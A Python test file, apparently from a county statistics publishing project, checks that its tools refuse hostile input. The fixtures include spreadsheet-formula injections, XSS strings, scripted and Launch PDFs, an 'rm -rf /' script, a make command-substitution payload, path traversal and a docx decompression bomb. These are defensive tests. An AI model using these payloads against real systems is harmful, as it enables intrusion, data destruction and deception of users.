"""Hostile input: what a careless or malicious contributor sends in a pull request, and what a hostile
report or environment gives the tools. Rounds three and four: file names that would forge CI output,
formula text, ids with a newline, data that crashed the validator, reports that would keep the importer
busy for minutes or unpack to gigabytes, make variables that would run commands, PDFs and .docx files that
run or fetch something, symbolic links and nested folders, characters that change what readers see,
numbers in forms a reader would not read the same way, addresses that would reach every page, releases
that go backwards. Each is a clear `file:line:col CODE 中文 / English` problem (or a refusal), never a
traceback; each round-four test says in its docstring which limit it meets (all are listed in
docs/fields.md "限制")."""

from __future__ import annotations

import csv
import io
import os
import re
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
import zlib
from decimal import Decimal
from pathlib import Path

import pytest

from macros.data import schema
from macros.data.loader import check, load_catalog
from macros.data.problems import DataError
from macros.drafts import documents
from macros.drafts.figures import find
from scripts import import_source, validate
from tests.conftest import ROOT
from tests.test_validation import TODAY

OBS = "data/observations/tech-contracts.csv"
IND = "data/indicators/tech-contracts.yaml"
FORGED = "x\n::error file=README.md,line=1,title=Approved::all checks passed\ny.csv"
# what Excel and WPS run as a formula when a cell starts with it (OWASP "CSV injection"), written here, not
# taken from the code under test
RUNS_AS_FORMULA = re.compile(r"^[=+\-@\t\r]")


def problems_of(data: Path) -> list:
    with pytest.raises(DataError) as info:
        load_catalog(data, today=TODAY)
    return info.value.problems


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# 1. names that forge GitHub annotations and job-summary text


@pytest.mark.parametrize("name", [FORGED, "-rf.csv", "note\u202egnp.csv", "zero\u200bwidth.csv"])
def test_a_file_name_with_a_line_break_or_invisible_character_is_refused_and_printed_escaped(fixture_data, capsys, monkeypatch, name: str) -> None:
    data = fixture_data.data
    (data / "observations" / name).write_bytes((data / "observations" / "tech-contracts.csv").read_bytes())
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert validate.main([str(data)]) == 1
    out = capsys.readouterr().out
    annotations = [line for line in out.splitlines() if line.startswith("::")]
    assert annotations and all(re.match(r"::(error|warning) file=data/[^,]*,line=\d+,col=\d+::", line) for line in annotations), annotations
    assert all(line.startswith(("data/", "::error file=data/", "::warning file=data/", "……")) for line in out.splitlines() if line), out
    (found,) = [p for p in problems_of(data) if p.code == "bad-file-name"]
    assert "\n" not in str(found) and found.path.startswith("data/observations/") and "请改名" in found.zh


def test_a_folder_name_is_checked_too(fixture_data) -> None:
    (fixture_data.data / "inbox" / "a\nb").mkdir(parents=True)
    codes = {(p.code, p.path) for p in problems_of(fixture_data.data)}
    assert ("bad-file-name", "data/inbox/a\\nb") in codes and ("unexpected-file", "data/inbox/a\\nb") in codes


def test_the_inbox_preview_and_the_data_diff_show_data_text_as_typed(tmp_path: Path) -> None:
    """A report whose import fails with a message holding a code fence and a heading, and a title with
    HTML and Markdown, reach the job summary as text: no heading, image, link or fence of their own."""
    from scripts import markdown_text

    for text in ("```\n# ✅ APPROVED\n```", '<img src=x onerror="alert(1)">', "[全部通过](https://evil.example)", "| a | b |"):
        shown = markdown_text(text)
        assert "\n" not in shown and not re.search(r"(?<!\\)[<>\[\]#`|]", shown), shown
    inbox = tmp_path / "data" / "inbox"
    inbox.mkdir(parents=True)
    report = inbox / "x.txt"
    report.write_bytes(b"")
    env = {**os.environ, "SHANGHE_DATA": str(ROOT / "data")}
    run = subprocess.run(
        [sys.executable, "-m", "scripts.inbox", "--out", str(tmp_path / "out"), str(report)], cwd=ROOT, env=env, capture_output=True, text=True
    )
    assert run.returncode == 1 and "```" not in run.stdout and "> 文件是空的" in run.stdout


# 2. formula text, however it starts


@pytest.mark.parametrize("note", ["-1+1+cmd|' /C calc'!A0", "-2*3", '=HYPERLINK("https://evil.example")', "@SUM(A1)", "+1"])
def test_text_a_spreadsheet_would_run_is_refused(fixture_data, note: str) -> None:
    path = fixture_data.data / "observations" / "tech-contracts.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = next(__import__("csv").reader([lines[1]]))
    cells[header.index("note")] = note
    buffer = io.StringIO()
    __import__("csv").writer(buffer, lineterminator="\n").writerow(cells)
    path.write_text("\n".join([lines[0], buffer.getvalue().rstrip("\n"), *lines[2:]]) + "\n", encoding="utf-8")
    found = [p for p in problems_of(fixture_data.data) if p.code == "formula-like-text"]
    assert found and found[0].path == OBS and found[0].line == 2


def test_published_files_hold_no_text_a_spreadsheet_would_run(site: Path) -> None:
    """Both machine files of every indicator, as built from the real data: no text cell of the CSV starts
    a formula, and no cell of the XLSX is one."""
    import csv

    from openpyxl import load_workbook

    numeric = {"value", "latest_value", "decimals"}
    for path in (site / "downloads").rglob("*.csv"):
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            bad = {k: v for k, v in row.items() if k not in numeric and v and RUNS_AS_FORMULA.match(v)}
            assert not bad, (path.name, bad)
    for path in [site / "downloads" / "observations.xlsx", *sorted((site / "downloads" / "indicators").glob("*.xlsx"))[:5]]:
        for sheet in load_workbook(path).worksheets:
            assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], path.name


# 3. ids matched whole


@pytest.mark.parametrize("value", ["tech-contracts\n", "a" * (schema.MAX_ID_LENGTH + 1), "con", "com1"])
def test_an_id_is_matched_whole_short_and_not_reserved(value: str) -> None:
    assert not schema.valid_id(value)
    assert schema.valid_id("tech-contracts") and schema.valid_id("a" * schema.MAX_ID_LENGTH) and schema.valid_id("console")


def test_an_area_id_with_a_trailing_newline_is_refused(fixture_data) -> None:
    edit(fixture_data.data / "areas.yaml", "- id: transfer\n", '- id: "transfer\\n"\n')
    found = [p for p in problems_of(fixture_data.data) if p.code == "bad-id"]
    assert found and found[0].path == "data/areas.yaml" and "transfer\\n" in found[0].zh


def test_import_refuses_an_id_with_a_newline_and_writes_nothing(tmp_path: Path) -> None:
    report = tmp_path / "r.txt"
    report.write_text("2024年新增企业12家。\n", encoding="utf-8")
    data = tmp_path / "data"
    (data / "sources").mkdir(parents=True)
    assert import_source.run(report, "abc\n", data) == 1
    assert not list((data / "sources").iterdir())


def test_import_apply_checks_its_id(tmp_path: Path) -> None:
    outside = tmp_path / "evil" / "rev.csv"
    outside.parent.mkdir()
    outside.write_text("status\naccept\n", encoding="utf-8")
    env = {**os.environ, "SHANGHE_DATA": str(ROOT / "data"), "ID": "../../../../" + str(outside.with_suffix("")).lstrip("/")}
    run = subprocess.run([sys.executable, "-m", "scripts.import_apply"], cwd=ROOT, env=env, capture_output=True, text=True)
    assert run.returncode == 2 and "bad-id" not in run.stderr and "只能用小写字母" in run.stderr and "Traceback" not in run.stderr


# 4. what used to crash


def test_a_deeply_nested_glossary_is_a_problem_not_a_recursion_error(fixture_data) -> None:
    (fixture_data.data / "glossary.yaml").write_text("- term: 深\n  definition: " + "[" * 500 + "]" * 500 + "\n", encoding="utf-8")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "yaml-too-deep"]
    assert (found.path, found.line) == ("data/glossary.yaml", 2)


def test_a_250_character_id_is_a_problem_before_any_file_is_written(fixture_data) -> None:
    data = fixture_data.data
    long = "a" * 250
    (data / "indicators" / "tech-contracts.yaml").rename(data / "indicators" / f"{long}.yaml")
    (data / "observations" / "tech-contracts.csv").rename(data / "observations" / f"{long}.csv")
    edit(data / "indicators" / f"{long}.yaml", "id: tech-contracts", f"id: {long}")
    found = [p for p in problems_of(data) if p.code == "bad-id"]
    assert found and found[0].path == f"data/indicators/{long}.yaml" and "最多 64 个字符" in found[0].zh


# 5. the importer's size and work limits


def test_import_refuses_a_30_mb_report_at_once(tmp_path: Path) -> None:
    report = tmp_path / "huge.txt"
    with report.open("wb") as f:
        f.truncate(30 * 1024 * 1024)
    started = time.perf_counter()
    assert import_source.run(report, "huge", tmp_path / "data") == 1
    assert time.perf_counter() - started < 5  # refused before anything is read, not a benchmark


def test_import_refuses_a_docx_of_millions_of_empty_paragraphs(tmp_path: Path, capsys) -> None:
    report = tmp_path / "bomb.docx"
    body = b"<w:p/>" * 5_000_000
    with zipfile.ZipFile(report, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr("[Content_Types].xml", "<Types/>")
        docx.writestr(
            "word/document.xml",
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' + body + b"</w:body></w:document>",
        )
    assert report.stat().st_size < 200_000
    assert import_source.run(report, "bomb", tmp_path / "data") == 1
    assert "上限" in capsys.readouterr().err


def test_finding_figures_takes_time_in_proportion_to_the_text(tmp_path: Path) -> None:
    """Four times the lines take about four times the time, well under eight (a quadratic search takes
    sixteen times: 8,000 lines were 108 s); the wide margin keeps a busy machine from failing it."""
    import contextlib

    def seconds(lines: int) -> float:
        data = tmp_path / f"data-{lines}"
        import shutil

        shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("releases"))
        report = tmp_path / f"r{lines}.txt"
        report.write_text(
            "商河县科技局2024年工作总结\n"
            + "\n".join(f"全县新增高新技术企业{i % 90 + 3}家，技术合同成交额{i % 50 + 1}.5亿元，同比增长{i % 30 + 1}%。" for i in range(lines)),
            encoding="utf-8",
        )
        started = time.perf_counter()
        with contextlib.redirect_stdout(io.StringIO()):
            assert import_source.run(report, f"r{lines}", data) == 0
        return time.perf_counter() - started

    seconds(200)  # imports and caches warm
    small, large = seconds(600), seconds(2400)
    assert large < 8 * small, (small, large)


# 6. make variables reach the scripts as typed


def test_make_variables_are_never_expanded(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    command = f"$(shell touch {marker})"
    show = subprocess.run(
        ["make", "-s", "--eval", 'show: ; @printf "[%s]" "$$SUMMARY"', "show", f"SUMMARY=费用 $5 {command}"], cwd=ROOT, capture_output=True, text=True
    )
    assert show.stdout == f"[费用 $5 {command}]" and not marker.exists()
    run = subprocess.run(["make", "-s", "validate", f"BASE={command}"], cwd=ROOT, capture_output=True, text=True)
    assert run.returncode != 0 and not marker.exists() and "不是本仓库中的提交" in run.stderr
    empty = subprocess.run(["make", "-s", "validate", "BASE="], cwd=ROOT, capture_output=True, text=True)
    assert empty.returncode != 0 and "BASE 为空" in empty.stderr


# 8. PDFs that run something


def pdf(*objects: bytes) -> bytes:
    """A small PDF of the given objects (1 0 obj first: the catalog), with a correct cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
SCRIPTED = {
    "open-action": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", *PAGES),
    "launch": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES, b"<< /S /Launch /F (calc.exe) >>"),
    "names": pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>", *PAGES, b"<< /Names [(x) << /S /JavaScript /JS (1) >>] >>"),
}


@pytest.mark.parametrize("case", sorted(SCRIPTED))
def test_a_pdf_that_runs_something_is_refused_at_import(tmp_path: Path, capsys, case: str) -> None:
    report = tmp_path / f"{case}.pdf"
    report.write_bytes(SCRIPTED[case])
    assert import_source.run(report, "scripted", tmp_path / "data") == 1
    assert "PDF 含有打开时会运行的内容" in capsys.readouterr().err


def test_a_plain_pdf_has_no_active_content() -> None:
    from macros.data.readers import pdf_active_content

    assert pdf_active_content(ROOT / "tests" / "fixtures" / "import" / "scanned.pdf") == []


def test_an_archived_pdf_that_runs_something_is_refused_at_validation(fixture_data, tmp_path: Path) -> None:
    import hashlib

    data = fixture_data.data
    archive = data / "sources" / "test-source.pdf"
    archive.write_bytes(SCRIPTED["open-action"])
    source = data / "sources" / "test-source.yaml"
    text = source.read_text(encoding="utf-8")
    text = re.sub(r"archive: .*", "archive: test-source.pdf", text)
    text = re.sub(r"sha256: .*", f"sha256: {hashlib.sha256(archive.read_bytes()).hexdigest()}", text)
    source.write_text(text, encoding="utf-8")
    (found,) = [p for p in problems_of(data) if p.code == "pdf-active-content"]
    assert found.path == "data/sources/test-source.yaml" and "JavaScript" in found.zh


# 9. symbolic links and nested folders


def test_import_and_the_inbox_preview_do_not_follow_a_symbolic_link(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("2024年新增企业12家。机密\n", encoding="utf-8")
    link = tmp_path / "inbox" / "report.txt"
    link.parent.mkdir()
    link.symlink_to(secret)
    assert import_source.run(link, "linked", tmp_path / "data") == 1
    env = {**os.environ, "SHANGHE_DATA": str(ROOT / "data")}
    run = subprocess.run([sys.executable, "-m", "scripts.inbox", "--out", str(tmp_path / "out"), str(link)], cwd=ROOT, env=env, capture_output=True, text=True)
    assert run.returncode == 1 and "机密" not in run.stdout and "符号链接" in run.stdout


@pytest.mark.parametrize("folder", ["inbox", "sources", "indicators", "observations"])
def test_nested_folders_under_data_are_refused(fixture_data, folder: str) -> None:
    nested = fixture_data.data / folder / "tools"
    nested.mkdir(parents=True)
    (nested / "run.sh").write_text("rm -rf /\n", encoding="utf-8")
    assert ("unexpected-file", f"data/{folder}/tools") in {(p.code, p.path) for p in problems_of(fixture_data.data)}


# 10. characters that change what readers see


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u2066", "\ufeff", "\x07"])
def test_bidi_and_zero_width_characters_in_data_text_are_named(fixture_data, char: str) -> None:
    edit(fixture_data.data / "indicators" / "tech-contracts.yaml", "title: 技术合同认定登记数", f'title: "技术\\u{ord(char):04x}合同认定登记数"')
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "invisible-character"]
    assert found.path == IND and f"U+{ord(char):04X}" in found.zh and f"U+{ord(char):04X}" in found.en and "第 3 个字符" in found.zh


# Round four: each case names the limit it meets (the field reference, docs/fields.md "限制", lists them all)


def with_observations(data: Path, *rows: str, header: str = "period,value,flag,qualifier,as_of,breakdown,source,quote,note,formula") -> Path:
    """tech-contracts.csv holding ``rows`` (CSV lines) under ``header``."""
    path = data / "observations" / "tech-contracts.csv"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def with_source_lines(data: Path, *lines: str) -> None:
    """The test source's archive with ``lines`` added, its recorded SHA-256 updated."""
    import hashlib

    archive = data / "sources" / "test-source.txt"
    archive.write_text(archive.read_text(encoding="utf-8") + "".join(f"{line}\n" for line in lines), encoding="utf-8")
    meta = data / "sources" / "test-source.yaml"
    meta.write_text(re.sub(r"sha256: .*", f"sha256: {hashlib.sha256(archive.read_bytes()).hexdigest()}", meta.read_text(encoding="utf-8")), encoding="utf-8")


def codes_at(data: Path) -> set[tuple[str, str, int]]:
    return {(p.code, p.path, p.line) for p in problems_of(data)}


# 1. numbers: one arithmetic context (100 digits), plain forms only


@pytest.mark.parametrize("formula", ["1e30", "0x10 - 6", "1_000 - 1", "0b101 * 1e0", "9" * 30])
def test_a_formula_is_plain_decimal_arithmetic_with_a_result_in_range(fixture_data, formula: str) -> None:
    """Limit: formulas in plain decimal notation, results below 10^15 (as any value)."""
    with_observations(fixture_data.data, f"2024,5,derived,,,,test-source,全县完成技术合同认定登记95项,推算：测试,{formula}")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "bad-formula"]
    assert (found.path, found.line) == (OBS, 2) and "普通十进制数字" in found.zh


def test_a_plain_formula_still_checks(fixture_data) -> None:
    with_observations(fixture_data.data, "2024,5,derived,,,,test-source,全县完成技术合同认定登记95项,推算：95 减 90,95 - 90")
    load_catalog(fixture_data.data, today=TODAY)


def test_values_fifteen_orders_apart_are_compared_and_worded(fixture_data) -> None:
    """Limit: values of at most 15 significant digits and the indicator's decimals, computed in a
    100-digit context: a change of 10^23 % is worded, not a decimal.InvalidOperation."""
    from macros.data.statements import change_text

    data = fixture_data.data
    edit(data / "indicators" / "tech-contracts.yaml", "decimals: 0", "decimals: 6\nmax_change: 50")
    with_source_lines(data, "2023年登记0.000001项。", "2024年登记999999999999999项。")
    with_observations(data, "2023,0.000001,,,,,test-source,2023年登记0.000001项。,,", "2024,999999999999999,,,,,test-source,2024年登记999999999999999项。,,")
    checked = check(data, today=TODAY)
    assert checked.catalog is not None and not checked.problems
    assert change_text(checked.catalog, checked.catalog.indicators["tech-contracts"]) == "比2023年增长99999999999999899999900.0%（增加999999999999999项）"
    assert [w.code for w in checked.warnings] == ["large-change"] and "变化 99999999999999899999900.0%" in checked.warnings[0].zh


@pytest.mark.parametrize("value", ["0.000000000001", "0." + "0" * 99_999 + "1"])
def test_a_value_with_more_decimals_than_the_indicator_shows_is_refused(fixture_data, value: str) -> None:
    """Limit: a value has at most its indicator's decimals (0-6): more would be rounded away unseen."""
    with_observations(fixture_data.data, f"2024,{value},,,,,test-source,全县完成技术合同认定登记95项,,")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "value-decimals"]
    assert (found.path, found.line) == (OBS, 2) and "小数位多于指标显示的 0 位" in found.zh


@pytest.mark.parametrize("value", ["-0", "-0.0"])
def test_a_negative_zero_is_refused(fixture_data, value: str) -> None:
    with_observations(fixture_data.data, f"2024,{value},from_wording,,,,test-source,全县完成技术合同认定登记95项,原文为“无”,")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "negative-zero"]
    assert (found.path, found.line, found.column) == (OBS, 2, 6) and "请写 0" in found.zh


def test_a_5000_digit_integer_is_text_of_the_wrong_type_not_a_crash(fixture_data) -> None:
    """Limit: an integer of more than 15 digits is never constructed (5000 digits raised ValueError)."""
    edit(fixture_data.data / "indicators" / "tech-contracts.yaml", "chart: bar", f"chart: bar\nmax_change: {'9' * 5000}")
    (found,) = [p for p in problems_of(fixture_data.data) if p.path == IND]
    assert (found.code, found.line) == ("bad-type", 11) and f"字段 max_change 应为整数，实际为 '{'9' * 39}…" in found.zh


@pytest.mark.parametrize(
    ("written", "shown"),
    [("1" + ":59" * 400_000, "1:59:59:59:59:59:59:59:59:59:59:59:59:59…"), ("0x32", "0x32"), ("5_0", "5_0"), ("!!int '0o62'", "0o62"), (".inf", ".inf")],
)
def test_a_yaml_number_in_a_surprising_form_is_refused_before_it_is_read(fixture_data, written: str, shown: str) -> None:
    """Limit: YAML numbers are plain decimals of at most 15 digits (no base 60, hex, octal, underscores,
    infinities), refused before PyYAML constructs them (a 5000-digit integer raised ValueError, 1.2 MB
    of base 60 took 28 s)."""
    edit(fixture_data.data / "indicators" / "tech-contracts.yaml", "chart: bar", f"chart: bar\nmax_change: {written}")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "yaml-scalar-form"]
    assert (found.path, found.line, found.column) == (IND, 11, 13) and found.zh.startswith(f"{shown} 会被 YAML 读成")


def test_yes_is_not_true(fixture_data) -> None:
    edit(fixture_data.data / "indicators" / "tech-contracts.yaml", "chart: bar", "chart: bar\nkey_figure: yes")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "yaml-scalar-form"]
    assert found.zh.startswith("yes 会被 YAML 读成真假值") and "请写 true 或 false" in found.zh


# 2. size: what the build is measured to handle


def test_more_breakdown_items_in_a_period_than_a_chart_can_show_are_refused(fixture_data) -> None:
    """Limit: 50 breakdown items per period (20,000 stopped the build in Altair's MaxRowsError)."""
    rows = [f"2024,95,,,,分项{i},test-source,全县完成技术合同认定登记95项," for i in range(20_000)]
    with_observations(fixture_data.data, *rows, header="period,value,flag,qualifier,as_of,breakdown,source,quote,note")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "too-many-items"]
    assert (found.path, found.line) == (OBS, 52) and "分项超过 50 个" in found.zh


def test_a_file_of_more_rows_than_the_build_is_measured_to_handle_is_refused(fixture_data) -> None:
    """Limit: 20,000 rows per CSV file (the bench builds 20,000 in 744 MB; 200,000 took 1.54 GB)."""
    rows = [f"{1900 + i % 120}-{i // 120 % 12 + 1:02d}-01,95,,,,,test-source,全县完成技术合同认定登记95项," for i in range(20_001)]
    with_observations(fixture_data.data, *rows, header="period,value,flag,qualifier,as_of,breakdown,source,quote,note")
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "too-many-rows"]
    assert (found.path, found.line) == (OBS, 20_002) and "超过 20000 行数据" in found.zh


# 3. addresses: plain http(s) only, checked before the build


HOSTILE_ADDRESSES = [
    'https://example.org/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "javascript://example.org/%0Aalert(1)",
    "https://example.org/" + "a" * 2480,
    "https://example.org/\n",
    "https://example.org/ onmouseover=alert(1)",
]


@pytest.mark.parametrize("value", HOSTILE_ADDRESSES)
def test_an_address_from_the_environment_must_be_plain(value: str) -> None:
    """Limit: SITE_URL and ISSUES_URL are plain http(s) addresses of at most 300 characters."""
    from macros.build import address, setting

    for checked in (address, lambda v: setting("ISSUES_URL", v)):
        with pytest.raises(DataError) as info:
            checked(value)
        (found,) = info.value.problems
        assert found.code == "bad-url" and found.path.startswith("环境变量 ") and "最多 300 个字符" in found.zh
    assert address("https://www.shanghe.gov.cn/kjj/sj") == "https://www.shanghe.gov.cn/kjj/sj/"


def test_issues_url_javascript_is_refused() -> None:
    from macros.build import setting

    with pytest.raises(DataError) as info:
        setting("ISSUES_URL", "javascript:alert(document.cookie)")
    assert info.value.problems[0].path == "环境变量 ISSUES_URL"


def test_a_hostile_site_url_stops_the_build_before_any_page(mkdocs_build, tmp_path: Path) -> None:
    run = mkdocs_build(tmp_path / "out", ROOT / "tests" / "fixtures" / "valid" / "data", SITE_URL=HOSTILE_ADDRESSES[0])
    assert run.returncode != 0 and "环境变量 SITE_URL:1:1 bad-url" in run.stderr and "网站未构建" in run.stderr
    assert not (tmp_path / "out" / "index.html").exists()


def test_the_longest_accepted_address_fits_the_briefing_qr_code() -> None:
    from macros.data import schema
    from macros.site.pages import address_code

    longest = "https://example.org/" + "a" * (schema.MAX_URL - len("https://example.org/") - 1) + "/"
    assert schema.plain_url(longest) and len(longest) == 300
    assert 'class="address-code"' in address_code(longest + "briefing/")


def test_an_address_in_the_data_is_plain_too(fixture_data) -> None:
    edit(
        fixture_data.data / "dataset.yaml",
        "licence_url: https://creativecommons.org/licenses/by/4.0/",
        'licence_url: "https://creativecommons.org/licenses/by/4.0/\\"onmouseover=alert(1)"',
    )
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "bad-url"]
    assert found.path == "data/dataset.yaml"


# 4. PDFs: active content however it is referenced


ACTIVE_PDFS = {
    "open-action-uri": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example) >> >>", *PAGES),
    "embedded-file": pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream"),
    "xfa": pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", *PAGES, b"<< /Length 8 >>\nstream\n<script>\nendstream"),
    "indirect-launch": pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /Dests 4 0 R >> >>", *PAGES, b"<< /S 5 0 R /F (calc.exe) >>", b"/Launch"),
}


@pytest.mark.parametrize(
    ("case", "name"), [("open-action-uri", "OpenAction"), ("embedded-file", "EmbeddedFile"), ("xfa", "XFA"), ("indirect-launch", "Launch")]
)
def test_active_pdf_content_is_found_however_it_is_referenced(tmp_path: Path, case: str, name: str) -> None:
    """Limit: an archived PDF holds no action, script, form script or embedded file (docs/fields.md)."""
    from macros.data.readers import pdf_active_content

    path = tmp_path / f"{case}.pdf"
    path.write_bytes(ACTIVE_PDFS[case])
    assert name in pdf_active_content(path)


# 6. releases: versions matched whole, increasing, the summary checked as data text


@pytest.fixture
def released_data(tmp_path: Path, monkeypatch) -> Path:
    import shutil

    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    monkeypatch.setenv("SHANGHE_DATA", str(data))
    monkeypatch.setenv("SHANGHE_CACHE", str(tmp_path / "cache"))
    return data


@pytest.mark.parametrize(
    ("version", "summary", "said_zh"),
    [
        ("2025.1\n", "说明", "版本号 2025.1\\n 格式有误"),
        ("2023.9", "说明", "版本号须大于上一版本"),
        ("2024.02", "说明", "序号不以 0 开头"),
        ("2025.1", '=HYPERLINK("https://evil.example")', "文字不能以 = + @ - 或制表符、回车开头"),
        ("2025.1", "说明\u202e文字", "U+202E"),
        ("2025.1", "第一行\n第二行", "只能写一行"),
    ],
)
def test_a_release_is_refused_before_anything_is_written(released_data: Path, capsys, version: str, summary: str, said_zh: str) -> None:
    """Limit: versions 年度.序号 matched whole, each higher than the last; the summary one line of data text."""
    from scripts import release

    before = (released_data / "releases.yaml").read_bytes()
    assert release.main([version, "--summary", summary]) == 1
    assert said_zh in capsys.readouterr().err
    assert (released_data / "releases.yaml").read_bytes() == before
    assert sorted(p.name for p in (released_data / "releases").iterdir()) == ["2024.1", "2024.2", "2024.3", "2024.4"]


def test_a_release_entry_with_a_lower_version_is_refused_by_the_validator(released_data: Path) -> None:
    with (released_data / "releases.yaml").open("a", encoding="utf-8") as f:
        f.write('- version: "2023.9"\n  date: 2026-12-04\n  summary: "回退"\n  sha256sums: ' + "ab" * 32 + "\n")
    assert "release-order" in {p.code for p in check(released_data).problems}


# 7. data that validated but should not, and messages made specific


def test_an_empty_glossary_alias_is_refused(fixture_data) -> None:
    """An alias "" would attach its term to every indicator."""
    (fixture_data.data / "glossary.yaml").write_text(
        "- term: 技术合同\n  term_en: Technology contract\n  definition: 测试。\n  aliases: ['']\n", encoding="utf-8"
    )
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "empty-item"]
    assert (found.path, found.line) == ("data/glossary.yaml", 4) and "列表中有空项" in found.zh


def test_a_plan_target_without_a_figure_and_a_title_with_a_line_break_are_refused(released_data: Path) -> None:
    plan = released_data / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    target = re.search(r"target: (.*)", text)
    assert target
    text = text.replace(target.group(0), "target: 无研发活动清零", 1)
    title = re.search(r"    title: (.*)", text)
    assert title
    text = text.replace(title.group(0), f'    title: "{title.group(1)[:2]}\\n{title.group(1)[2:]}"', 1)
    plan.write_text(text, encoding="utf-8")
    codes = {p.code: p for p in check(released_data).problems}
    assert codes["target-without-figure"].path == "data/plan.yaml" and "须包含数字" in codes["target-without-figure"].zh
    assert "只能写一行" in codes["line-break"].zh


def test_an_indicator_that_is_its_own_change_or_relation_is_refused_where_it_says_so(fixture_data) -> None:
    edit(
        fixture_data.data / "indicators" / "tech-contracts.yaml",
        "chart: bar",
        "chart: bar\nchange_of: tech-contracts\nchange_wording: 新增{value}项\nchange_wording_en: '{value} added'\nrelated: [coverage, tech-contracts]",
    )
    found = sorted((p.line, p.zh.split("：")[0]) for p in problems_of(fixture_data.data) if p.code == "self-reference")
    assert found == [(11, "change_of 填的是本指标自己"), (14, "related 填的是本指标自己")]


def test_look_alike_breakdowns_are_one_breakdown(fixture_data) -> None:
    """金融 (U+91D1) and 金融 (U+F90A, a compatibility ideograph) side by side."""
    with_observations(
        fixture_data.data,
        "2024,90,,,,\u91d1融,test-source,全县完成技术合同认定登记95项,",
        "2024,5,,,,\uf90a融,test-source,全县完成技术合同认定登记95项,",
        header="period,value,flag,qualifier,as_of,breakdown,source,quote,note",
    )
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "not-normalized"]
    assert (found.path, found.line) == (OBS, 3) and "U+F90A" in found.zh and "U+91D1" in found.zh


def test_a_cut_off_date_before_its_period_is_refused(fixture_data) -> None:
    with_observations(
        fixture_data.data,
        "2024,95,,,1900-01-01,,test-source,全县完成技术合同认定登记95项,",
        header="period,value,flag,qualifier,as_of,breakdown,source,quote,note",
    )
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "as-of-before-period"]
    assert (found.path, found.line, found.column) == (OBS, 2, 11) and "早于时期 2024年" in found.zh


def test_a_register_lists_indicator_ids_only(fixture_data) -> None:
    edit(fixture_data.data / "registers" / "contracts.yaml", "indicators:", "indicators:\n  - ../dataset")
    found = [p for p in problems_of(fixture_data.data) if p.code == "bad-id"]
    assert found and found[0].path == "data/registers/contracts.yaml" and "../dataset" in found[0].zh


def test_a_rank_is_never_approximate(fixture_data) -> None:
    ind = fixture_data.data / "indicators" / "tech-contracts.yaml"
    edit(ind, "unit: 项", "unit: 名\nrank_scope: 全市")
    edit(ind, "title: 技术合同认定登记数", "title: 技术合同认定登记数全市排名")
    with_source_lines(fixture_data.data, "技术合同登记数位列全市第1名。")
    with_observations(
        fixture_data.data,
        "2024,1,,approximate,,,test-source,技术合同登记数位列全市第1名。,",
        header="period,value,flag,qualifier,as_of,breakdown,source,quote,note",
    )
    (found,) = [p for p in problems_of(fixture_data.data) if p.code == "qualifier-on-rank"]
    assert (found.path, found.line) == (OBS, 2) and "第约1名" in found.zh


def test_a_csv_with_cr_line_endings_says_so(fixture_data) -> None:
    path = fixture_data.data / "observations" / "tech-contracts.csv"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r"))
    (found,) = [p for p in problems_of(fixture_data.data) if p.path == OBS]
    assert found.code == "csv-line-endings" and "回车符（CR" in found.zh and "new-line character" not in found.zh


@pytest.mark.parametrize("quote", ["全县完成技术合同认定登记９５项", "\uf90a融类技术合同95项。"])
def test_a_quote_that_differs_only_in_unicode_form_says_so(fixture_data, quote: str) -> None:
